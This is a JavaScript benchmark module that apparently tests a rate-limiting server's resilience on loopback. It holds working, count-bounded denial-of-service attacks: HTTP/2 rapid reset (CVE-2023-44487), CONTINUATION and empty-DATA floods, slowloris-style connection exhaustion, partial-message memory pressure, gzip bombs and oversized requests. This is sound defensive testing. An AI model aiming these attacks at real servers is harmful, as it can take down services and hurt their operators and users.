// The attacks of bench/hostile.mjs (the findings of issues 12 and 23), each bounded in count and in time and
// each returning a one-line account of how the server treated the attacker. Loopback only.
//
// An attack is { name, what, prepare?(ctx), run(ctx, deadline) }: prepare (optional, not timed)
// brings the server into the attack's starting state; run attacks until `deadline` (ms since the
// epoch) or its own count bound, cleans up its sockets and resolves { outcome }.
// ctx: { grpcPort, httpPort, debugPort, path, limits: { idle, slow, values }, log(msg) }.
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import { performance } from 'node:perf_hooks';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { encodeRateLimitRequest } from '../../packages/rls-proto/dist/src/index.js';
import { grpcRequestHeaders, hpackLiteralBlock, H2ErrorCode } from '../../packages/testkit/dist/src/h2-raw.js';
import { attackConn, encodeFrame, frameHeader, FrameFlag, FrameType } from './hostile-h2.mjs';

const MiB = 1024 * 1024;

function grpcMessage(msg) {
  const out = Buffer.alloc(5 + msg.length);
  out.writeUInt32BE(msg.length, 1);
  msg.copy(out, 5);
  return out;
}

function rlRequest(key, values) {
  return encodeRateLimitRequest({ domain: 'bench', descriptors: values.map((value) => ({ entries: [{ key, value }] })), hitsAddend: 0 });
}

const count = (n) => n.toLocaleString('en-US');
const mb = (bytes) => (bytes >= 10 * MiB ? `${(bytes / MiB).toFixed(0)} MiB` : `${(bytes / 1024).toFixed(0)} KiB`);

// ---------------------------------------------------------------------------------------------
// 1. memory: 250 streams on one connection, each sending a gRPC message that announces 4 MiB and
// never completes, as fast as the server's flow-control windows allow.

const memory = {
  name: 'memory',
  what: '1 connection, 250 streams × partial 4 MiB gRPC message (within the flow-control windows)',
  async run(ctx, deadline) {
    const STREAMS = 250;
    const MESSAGE = 4 * MiB;
    const c = await attackConn(ctx.grpcPort);
    await c.waitSettings(Math.min(deadline, Date.now() + 5000));
    const headerBlock = hpackLiteralBlock(grpcRequestHeaders(ctx.path));
    const budget = new Map();
    for (let i = 0; i < STREAMS && !c.ended; i++) {
      const id = 2 * i + 1;
      c.openStream(id);
      await c.write(encodeFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headerBlock), deadline);
      // The gRPC length prefix announces the whole message; the body then trickles in below.
      const prefix = Buffer.alloc(5);
      prefix.writeUInt32BE(MESSAGE, 1);
      budget.set(id, { left: MESSAGE - 1, prefix });
    }
    const zeros = Buffer.alloc(Math.max(16384, c.maxFrame));
    let stalledSince;
    while (!c.ended && Date.now() < deadline) {
      let wrote = false;
      for (const [id, b] of budget) {
        if (b.left <= 0 || c.resetStreams.has(id)) continue;
        const win = Math.min(c.streamWindow.get(id) ?? 0, c.connWindow);
        const head = b.prefix ? b.prefix.length : 0;
        const n = Math.min(c.maxFrame, b.left + head, win);
        if (n <= head) continue;
        const payloadLen = n - head;
        c.streamWindow.set(id, (c.streamWindow.get(id) ?? 0) - n);
        c.connWindow -= n;
        b.left -= payloadLen;
        const parts = [frameHeader(FrameType.DATA, 0, id, n)];
        if (b.prefix) parts.push(b.prefix);
        parts.push(zeros.subarray(0, payloadLen));
        b.prefix = undefined;
        await c.write(Buffer.concat(parts), deadline);
        wrote = true;
        if (c.ended || Date.now() >= deadline) break;
      }
      if (!wrote) {
        // Every window is spent: wait for WINDOW_UPDATE (or for the end of the phase).
        stalledSince ??= Date.now();
        await c.change(Math.min(200, Math.max(1, deadline - Date.now())));
        if ([...budget.values()].every((b) => b.left <= 0)) break;
      } else stalledSince = undefined;
    }
    const sent = [...budget.values()].reduce((s, b) => s + (MESSAGE - 1 - Math.max(0, b.left)), 0);
    // Hold what was sent until the phase ends: the memory is what the server keeps meanwhile.
    while (!c.ended && Date.now() < deadline) await c.change(Math.min(500, deadline - Date.now()));
    const stalled = stalledSince !== undefined && !c.ended ? `; stalled by flow control after ${mb(sent)}` : '';
    const outcome = `${mb(sent)} of ${mb(STREAMS * MESSAGE)} sent${stalled}; ${c.outcome()}`;
    await c.close();
    return { outcome };
  },
};

// ---------------------------------------------------------------------------------------------
// 2. connections: idle TCP connections to the gRPC port that never send the preface, and slow
// `POST /json` requests whose headers arrive one byte per second.

async function openSockets(port, n, deadline, onOpen) {
  const sockets = [];
  let failed = 0;
  const errors = new Map();
  const BATCH = 200;
  for (let i = 0; i < n && Date.now() < deadline; i += BATCH) {
    const batch = await Promise.all(
      Array.from({ length: Math.min(BATCH, n - i) }, () =>
        new Promise((resolve) => {
          const s = net.connect({ host: '127.0.0.1', port });
          const t = setTimeout(() => {
            s.destroy();
            resolve(new Error('connect timeout'));
          }, 3000);
          s.once('connect', () => {
            clearTimeout(t);
            resolve(s);
          });
          s.once('error', (err) => {
            clearTimeout(t);
            resolve(err);
          });
        }),
      ),
    );
    for (const r of batch) {
      if (r instanceof Error) {
        failed++;
        const k = r.code ?? r.message;
        errors.set(k, (errors.get(k) ?? 0) + 1);
      } else {
        r.on('error', () => {});
        r.serverClosed = false;
        r.openedAt = Date.now();
        r.on('close', () => {
          if (r.byUs) return;
          r.serverClosed = true;
          r.lifeMs = Date.now() - r.openedAt;
        });
        r.received = '';
        r.on('data', (d) => {
          if (r.received.length < 200) r.received += d.toString('latin1');
        });
        onOpen?.(r);
        sockets.push(r);
      }
    }
  }
  return { sockets, failed, errors };
}

const SLOW_REQUEST = 'POST /json HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\nX-Slow: ' + 'a'.repeat(64) + '\r\n\r\n{}';

const connections = {
  name: 'connections',
  what: (ctx) => `${count(ctx.limits.idle)} idle TCP connections (gRPC port, no preface) + ${count(ctx.limits.slow)} slow POST /json (1 header byte/s), opened before the phase and held through it`,
  // The sockets are opened before the measured phase (bounded to 60 s; on a busy machine opening
  // thousands takes seconds) so that the phase measures a server holding all of them, which is
  // what exhausted the descriptors in the finding. A server that reaps them may already have
  // closed some by the time the phase starts: the outcome says how many and when.
  async prepare(ctx) {
    const t0 = Date.now();
    const until = t0 + 60_000;
    const slowStart = (s) => {
      s.pos = 1;
      s.write(SLOW_REQUEST[0]);
    };
    const [idle, slow] = await Promise.all([openSockets(ctx.grpcPort, ctx.limits.idle, until), openSockets(ctx.httpPort, ctx.limits.slow, until, slowStart)]);
    const openedIn = (Date.now() - t0) / 1000;
    const closedBefore = [...idle.sockets, ...slow.sockets].filter((s) => s.serverClosed).length;
    ctx.log(`opened ${count(idle.sockets.length)} idle + ${count(slow.sockets.length)} slow in ${openedIn.toFixed(1)} s; ${count(closedBefore)} already closed by the server`);
    return { idle, slow, t0 };
  },
  async run(ctx, deadline, prepared) {
    const { idle, slow, t0 } = prepared;
    // One byte per connection per second: the headers take SLOW_REQUEST.length seconds, longer
    // than any phase, so a server without a header timeout holds every one of them.
    while (Date.now() < deadline) {
      for (const s of slow.sockets) {
        if (s.destroyed || s.pos >= SLOW_REQUEST.length) continue;
        s.write(SLOW_REQUEST[s.pos++]);
      }
      await delay(Math.min(1000, Math.max(1, deadline - Date.now())));
    }
    const held = (Date.now() - t0) / 1000;
    const closedIdle = idle.sockets.filter((s) => s.serverClosed).length;
    const closedSlow = slow.sockets.filter((s) => s.serverClosed).length;
    const statuses = new Map();
    for (const s of slow.sockets) {
      const m = /^HTTP\/1\.1 (\d{3})/.exec(s.received);
      if (m) statuses.set(m[1], (statuses.get(m[1]) ?? 0) + 1);
    }
    for (const s of [...idle.sockets, ...slow.sockets]) {
      s.byUs = true;
      s.destroy();
    }
    // How long the server let them live: "at once" means refused (a cap), later means reaped.
    const lives = (list) => {
      const ms = list.filter((x) => x.serverClosed).map((x) => x.lifeMs).sort((a, b) => a - b);
      if (ms.length === 0) return '';
      const sec = (v) => (v / 1000).toFixed(1);
      return ` (lived ${sec(ms[0])}–${sec(ms[ms.length - 1])} s, median ${sec(ms[Math.floor(ms.length / 2)])} s)`;
    };
    const errs = (o) => (o.failed ? ` (${count(o.failed)} failed to connect: ${[...o.errors].map(([k, v]) => `${k}×${v}`).join(' ')})` : '');
    const answered = statuses.size ? `, answered ${[...statuses].map(([k, v]) => `${k}×${v}`).join(' ')}` : '';
    const outcome =
      `after ${held.toFixed(0)} s: idle ${count(closedIdle)}/${count(idle.sockets.length)} closed by server${lives(idle.sockets)}${errs(idle)}; ` +
      `slow ${count(closedSlow)}/${count(slow.sockets.length)} closed by server${lives(slow.sockets)}${answered}${errs(slow)}`;
    return { outcome };
  },
};

// ---------------------------------------------------------------------------------------------
// 3. rapid reset (CVE-2023-44487): HEADERS + DATA (a complete request) + RST_STREAM(CANCEL), in a
// tight loop on one connection, within the connection window.

const rapidReset = {
  name: 'rapid-reset',
  what: 'HEADERS+DATA+RST_STREAM(CANCEL) in a tight loop on 1 connection (max 500,000 streams)',
  async run(ctx, deadline) {
    const MAX_STREAMS = 500_000;
    const BATCH = 100;
    const c = await attackConn(ctx.grpcPort);
    await c.waitSettings(Math.min(deadline, Date.now() + 5000));
    const headerBlock = hpackLiteralBlock(grpcRequestHeaders(ctx.path));
    const msg = grpcMessage(rlRequest('attacker', ['rr']));
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(H2ErrorCode.CANCEL);
    let id = 1;
    let streams = 0;
    while (!c.ended && streams < MAX_STREAMS && Date.now() < deadline) {
      const need = BATCH * msg.length;
      if (c.connWindow < need) {
        await c.change(Math.min(200, Math.max(1, deadline - Date.now())));
        continue;
      }
      const frames = [];
      for (let i = 0; i < BATCH; i++, id += 2) {
        frames.push(encodeFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headerBlock));
        frames.push(encodeFrame(FrameType.DATA, FrameFlag.END_STREAM, id, msg));
        frames.push(encodeFrame(FrameType.RST_STREAM, 0, id, cancel));
      }
      c.connWindow -= need;
      streams += BATCH;
      await c.write(Buffer.concat(frames), deadline);
      // Let the pump read the server's frames (GOAWAY, WINDOW_UPDATE) between batches.
      if (streams % 2000 === 0) await delay(0);
    }
    // Give a GOAWAY in flight a moment to arrive, and the server time to finish the streams it
    // took, before reading the outcome.
    if (!c.ended) await c.change(300);
    await delay(200);
    const decided = await statCounter(ctx, 'ratelimit.service.rate_limit.bench.attacker.total_hits');
    const outcome = `${count(streams)} streams sent, ${decided === undefined ? '?' : count(decided)} decided by the server, ${count(c.responses)} responses; ${c.outcome()}`;
    await c.close();
    return { outcome };
  },
};

// ---------------------------------------------------------------------------------------------
// 4. CONTINUATION flood (a header block that never ends) and empty DATA frames (no flow-control
// cost, each one still parsed).

const continuation = {
  name: 'continuation',
  what: 'HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB header fields (max 1 GiB)',
  async run(ctx, deadline) {
    const MAX_BYTES = 1024 * MiB;
    const c = await attackConn(ctx.grpcPort);
    await c.waitSettings(Math.min(deadline, Date.now() + 5000));
    await c.write(encodeFrame(FrameType.HEADERS, 0, 1, hpackLiteralBlock(grpcRequestHeaders(ctx.path))), deadline);
    const block = hpackLiteralBlock([['x-flood', 'a'.repeat(16000)]]);
    const frame = encodeFrame(FrameType.CONTINUATION, 0, 1, block);
    const batch = Buffer.concat(Array.from({ length: 16 }, () => frame));
    let sent = 0;
    while (!c.ended && sent < MAX_BYTES && Date.now() < deadline) {
      await c.write(batch, deadline);
      sent += batch.length;
      await delay(0);
    }
    if (!c.ended) await c.change(300);
    const outcome = `${mb(sent)} of CONTINUATION sent; ${c.outcome()}`;
    await c.close();
    return { outcome };
  },
};

const emptyData = {
  name: 'empty-data',
  what: 'one open stream, then empty DATA frames without END_STREAM in a tight loop (max 10,000,000)',
  async run(ctx, deadline) {
    const MAX_FRAMES = 10_000_000;
    const BATCH = 2000;
    const c = await attackConn(ctx.grpcPort);
    await c.waitSettings(Math.min(deadline, Date.now() + 5000));
    await c.write(encodeFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, 1, hpackLiteralBlock(grpcRequestHeaders(ctx.path))), deadline);
    const batch = Buffer.concat(Array.from({ length: BATCH }, () => encodeFrame(FrameType.DATA, 0, 1)));
    let frames = 0;
    while (!c.ended && frames < MAX_FRAMES && Date.now() < deadline) {
      await c.write(batch, deadline);
      frames += BATCH;
      await delay(0);
    }
    if (!c.ended) await c.change(300);
    const outcome = `${count(frames)} empty DATA frames sent; ${c.outcome()}`;
    await c.close();
    return { outcome };
  },
};

// ---------------------------------------------------------------------------------------------
// 5. huge requests, one after another: gRPC with 10,000 descriptors, and a 1 MB POST /json.

const GRPC_CODES = ['OK', 'CANCELLED', 'UNKNOWN', 'INVALID_ARGUMENT', 'DEADLINE_EXCEEDED', 'NOT_FOUND', 'ALREADY_EXISTS', 'PERMISSION_DENIED', 'RESOURCE_EXHAUSTED', 'FAILED_PRECONDITION', 'ABORTED', 'OUT_OF_RANGE', 'UNIMPLEMENTED', 'INTERNAL', 'UNAVAILABLE', 'DATA_LOSS', 'UNAUTHENTICATED'];
const grpcStatus = (s) => (s === undefined ? undefined : `grpc ${GRPC_CODES[Number(s)] ?? s}`);

function grpcCall(session, path, body, timeoutMs) {
  return new Promise((resolve) => {
    const t0 = performance.now();
    let status;
    let done = false;
    const end = (s) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      resolve({ status: s, ms: performance.now() - t0 });
    };
    const timer = setTimeout(() => {
      end('timeout');
      req.close(http2.constants.NGHTTP2_CANCEL);
    }, timeoutMs);
    const req = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' });
    req.on('response', (h) => (status = h['grpc-status'] ?? status));
    req.on('trailers', (h) => (status = h['grpc-status'] ?? status));
    req.on('data', () => {});
    req.on('end', () => end(grpcStatus(status) ?? 'no grpc-status'));
    req.on('error', (err) => end(err.code ?? err.message));
    req.on('close', () => end(grpcStatus(status) ?? 'stream closed'));
    req.end(body);
  });
}

function tally(results) {
  const m = new Map();
  for (const r of results) m.set(r.status, (m.get(r.status) ?? 0) + 1);
  const max = Math.max(0, ...results.map((r) => r.ms));
  return `${[...m].map(([k, v]) => `${k} ×${count(v)}`).join(', ') || 'none sent'}; slowest ${max.toFixed(0)} ms`;
}

const hugeGrpc = {
  name: 'huge-grpc',
  what: 'gRPC requests with 10,000 descriptors, one after another on 1 connection (max 2,000)',
  async run(ctx, deadline) {
    const body = grpcMessage(rlRequest('attacker', Array.from({ length: 10_000 }, (_, i) => `h${i}`)));
    const session = http2.connect(`http://127.0.0.1:${ctx.grpcPort}`);
    session.on('error', () => {});
    let goaway;
    session.on('goaway', (code) => (goaway = code));
    const results = [];
    while (results.length < 2000 && Date.now() < deadline && !session.closed && !session.destroyed) {
      results.push(await grpcCall(session, ctx.path, body, Math.max(1000, deadline - Date.now() + 2000)));
    }
    session.destroy();
    const ga = goaway === undefined ? '' : `; GOAWAY code ${goaway}`;
    return { outcome: `${count(body.length)} B each: ${tally(results)}${ga}` };
  },
};

function postJson(agent, port, body, timeoutMs) {
  return new Promise((resolve) => {
    const t0 = performance.now();
    let done = false;
    const end = (s) => {
      if (done) return;
      done = true;
      resolve({ status: s, ms: performance.now() - t0 });
    };
    const req = http.request({ host: '127.0.0.1', port, path: '/json', method: 'POST', agent, timeout: timeoutMs, headers: { 'content-type': 'application/json', 'content-length': body.length } }, (res) => {
      res.resume();
      res.on('end', () => end(`HTTP ${res.statusCode}`));
      res.on('error', (err) => end(err.code ?? err.message));
    });
    req.on('timeout', () => {
      end('timeout');
      req.destroy();
    });
    req.on('error', (err) => end(err.code ?? err.message));
    req.end(body);
  });
}

const hugeJson = {
  name: 'huge-json',
  what: 'POST /json with a 1 MB body (≈20,000 descriptors), one after another on 1 keep-alive connection (max 2,000)',
  async run(ctx, deadline) {
    const descriptors = [];
    let size = 40;
    for (let i = 0; size < 1_000_000; i++) {
      const d = { entries: [{ key: 'attacker', value: `j${i}` }] };
      size += JSON.stringify(d).length + 1;
      descriptors.push(d);
    }
    const body = Buffer.from(JSON.stringify({ domain: 'bench', descriptors }));
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const results = [];
    while (results.length < 2000 && Date.now() < deadline) {
      results.push(await postJson(agent, ctx.httpPort, body, Math.max(1000, deadline - Date.now() + 2000)));
    }
    agent.destroy();
    return { outcome: `${count(body.length)} B, ${count(descriptors.length)} descriptors each: ${tally(results)}` };
  },
};

// ---------------------------------------------------------------------------------------------
// 6. gzip bombs (issue 23): a few KB on the wire that inflate to 4 MB each, many streams in flight
// on several connections, sent within the flow-control windows.

const gzipBomb = {
  name: 'gzip-bomb',
  what: '4 connections, each keeping 150 gRPC streams in flight whose gzip message (≈4 KB) inflates to 4,000,000 B (max 200,000 bombs)',
  async run(ctx, deadline) {
    const CONNECTIONS = 4;
    const IN_FLIGHT = 150;
    const MAX_BOMBS = 200_000;
    const zipped = gzipSync(Buffer.alloc(4_000_000), { level: 9 });
    const bomb = Buffer.alloc(5 + zipped.length);
    bomb[0] = 1; // compressed
    bomb.writeUInt32BE(zipped.length, 1);
    zipped.copy(bomb, 5);
    const headerBlock = hpackLiteralBlock(grpcRequestHeaders(ctx.path, { extra: [['grpc-encoding', 'gzip']] }));
    let sent = 0;
    const conns = await Promise.all(Array.from({ length: CONNECTIONS }, () => attackConn(ctx.grpcPort)));
    await Promise.all(
      conns.map(async (c) => {
        await c.waitSettings(Math.min(deadline, Date.now() + 5000));
        let id = 1;
        let opened = 0;
        while (!c.ended && sent < MAX_BOMBS && Date.now() < deadline) {
          if (opened - c.finished >= IN_FLIGHT || c.connWindow < bomb.length) {
            await c.change(Math.min(50, Math.max(1, deadline - Date.now())));
            continue;
          }
          c.connWindow -= bomb.length;
          await c.write(Buffer.concat([encodeFrame(FrameType.HEADERS, FrameFlag.END_HEADERS, id, headerBlock), encodeFrame(FrameType.DATA, FrameFlag.END_STREAM, id, bomb)]), deadline);
          id += 2;
          opened++;
          sent++;
        }
      }),
    );
    const statuses = new Map();
    for (const c of conns) for (const [k, v] of c.statuses) statuses.set(k, (statuses.get(k) ?? 0) + v);
    const answered = [...statuses].map(([k, v]) => `${grpcStatus(k) ?? k} ×${count(v)}`).join(', ') || 'none';
    const outcome = `${count(sent)} bombs of ${count(bomb.length)} B (→ ${mb(4_000_000 * sent)} inflated if all were) sent; answered ${answered}; ${[...new Set(conns.map((c) => c.outcome()))].join(' | ')}`;
    await Promise.all(conns.map((c) => c.close()));
    return { outcome };
  },
};

// ---------------------------------------------------------------------------------------------
// 7. /stats scraping after feeding a detailed_metric rule many distinct values (one series each).

async function httpGet(port, path, timeoutMs) {
  return await new Promise((resolve) => {
    const t0 = performance.now();
    const req = http.get({ host: '127.0.0.1', port, path, agent: false, timeout: timeoutMs }, (res) => {
      let bytes = 0;
      const chunks = [];
      res.on('data', (d) => {
        bytes += d.length;
        chunks.push(d);
      });
      res.on('end', () => resolve({ status: res.statusCode, bytes, ms: performance.now() - t0, text: () => Buffer.concat(chunks).toString('utf8') }));
      res.on('error', (err) => resolve({ status: err.code ?? err.message, bytes, ms: performance.now() - t0 }));
    });
    req.on('timeout', () => {
      req.destroy();
      resolve({ status: 'timeout', bytes: 0, ms: performance.now() - t0 });
    });
    req.on('error', (err) => resolve({ status: err.code ?? err.message, bytes: 0, ms: performance.now() - t0 }));
  });
}

/** A counter's total from the debug port's /stats (undefined if absent or unreachable). */
export async function statCounter(ctx, name) {
  const r = await httpGet(ctx.debugPort, '/stats', 10_000);
  if (r.status !== 200) return undefined;
  const m = new RegExp(`^${name.replace(/[.]/g, '\\.')}: (\\d+)`, 'm').exec(r.text());
  // Per-rule counters appear with their first hit: an absent one on a page that answered is 0.
  return m ? Number(m[1]) : 0;
}

const statsScrape = {
  name: 'stats-scrape',
  what: (ctx) => `GET /stats in a loop (debug port) after ${count(ctx.limits.values)} distinct values fed to a detailed_metric rule`,
  async prepare(ctx) {
    // Feed the values in requests of BATCH descriptors, 16 in flight; if the server refuses that
    // many descriptors per request, halve the batch (the values still have to get in).
    const started = Date.now();
    const until = started + 120_000;
    const session = http2.connect(`http://127.0.0.1:${ctx.grpcPort}`);
    session.on('error', () => {});
    let batch = 100;
    let next = 0;
    let refused = 0;
    while (next < ctx.limits.values && Date.now() < until && !session.destroyed) {
      const calls = [];
      for (let k = 0; k < 16 && next < ctx.limits.values; k++) {
        const n = Math.min(batch, ctx.limits.values - next);
        const values = Array.from({ length: n }, (_, i) => `u${next + i}`);
        next += n;
        calls.push(grpcCall(session, ctx.path, grpcMessage(rlRequest('user', values)), 10_000));
      }
      const rs = await Promise.all(calls);
      const bad = rs.filter((r) => r.status !== 'grpc OK');
      if (bad.length > 0) {
        refused += bad.length;
        if (batch > 1) {
          next -= bad.length * batch; // approximately: resend with smaller requests
          next = Math.max(0, next);
          batch = Math.max(1, Math.floor(batch / 2));
        }
        if (refused > 1000) break;
      }
    }
    session.destroy();
    const page = await httpGet(ctx.debugPort, '/stats', 30_000);
    const text = page.status === 200 ? page.text() : '';
    const series = text.split('\n').filter((l) => l.includes('.bench.user_') && l.includes('.total_hits:')).length;
    ctx.log(`fed ${count(next)} values in ${((Date.now() - started) / 1000).toFixed(1)} s (${refused} requests refused, last batch ${batch}); /stats: ${count(series)} per-value series, ${count(page.bytes)} B, ${page.ms.toFixed(0)} ms`);
    return { series, fed: next };
  },
  async run(ctx, deadline, prepared) {
    const results = [];
    while (results.length < 10_000 && Date.now() < deadline) {
      results.push(await httpGet(ctx.debugPort, '/stats', Math.max(1000, deadline - Date.now() + 5000)));
    }
    const ok = results.filter((r) => r.status === 200);
    const maxMs = Math.max(0, ...results.map((r) => r.ms));
    const maxBytes = Math.max(0, ...ok.map((r) => r.bytes));
    const other = results.length - ok.length;
    return {
      outcome: `${count(results.length)} scrapes of ${(maxBytes / 1024).toFixed(0)} KiB (${count(prepared?.series ?? 0)} per-value series from ${count(prepared?.fed ?? 0)} values), slowest ${maxMs.toFixed(0)} ms${other ? `, ${other} failed` : ''}`,
    };
  },
};

// ---------------------------------------------------------------------------------------------
// Store eviction (issue 23, findings 1-2): the service on the embedded memory store with a 16 MiB
// budget, filled over and over with distinct one-hour counters through /json (20 new counters of
// 100-character values a request, on 4 keep-alive connections). The well-behaved client's counter
// must keep its place and its latency; the outcome reports the store's eviction statistics.
const storeEviction = {
  name: 'store-eviction',
  what: 'memory store (16 MiB budget): 4 connections POST /json with 20 new one-hour counters each (100-char values), max 200,000 requests',
  env: { BACKEND_TYPE: 'memory', MEMORY_STORE_MAX_BYTES: String(16 * 1024 * 1024) },
  async run(ctx, deadline) {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
    const results = [];
    let sent = 0;
    const worker = async (w) => {
      for (let n = 0; sent < 200_000 && Date.now() < deadline; n++) {
        sent++;
        const descriptors = Array.from({ length: 20 }, (_, i) => ({ entries: [{ key: 'attacker', value: `${w}-${n}-${i}-`.padEnd(100, 'x') }] }));
        results.push(await postJson(agent, ctx.httpPort, Buffer.from(JSON.stringify({ domain: 'bench', descriptors })), Math.max(1000, deadline - Date.now() + 2000)));
      }
    };
    await Promise.all([0, 1, 2, 3].map(worker));
    agent.destroy();
    let store = '';
    try {
      const text = await (await fetch(`http://127.0.0.1:${ctx.debugPort}/stats`)).text();
      const v = (name) => /^ratelimit\.memory_store\.(\S+): (\d+)$/gm;
      const got = {};
      for (const m of text.matchAll(v())) got[m[1]] = Number(m[2]);
      store = `; store: ${got.keys ?? '?'} keys, ${count(got.bytes ?? 0)} B, evicted ${got.evicted ?? 0}, expired ${got.expired ?? 0}, refused ${got.refused ?? 0}`;
    } catch {
      store = '; store statistics not read';
    }
    return { outcome: `${count(results.length)} requests (${count(results.length * 20)} new counters): ${tally(results)}${store}` };
  },
};

// A control row: the second phase without an attack, to show how much the machine alone moves p99.
const none = {
  name: 'none',
  what: 'no attack (control: how much p99 moves between two phases by itself)',
  async run(_ctx, deadline) {
    await delay(Math.max(0, deadline - Date.now()));
    return { outcome: '-' };
  },
};

export const ATTACKS = [none, memory, connections, rapidReset, continuation, emptyData, hugeGrpc, hugeJson, gzipBomb, statsScrape, storeEviction];
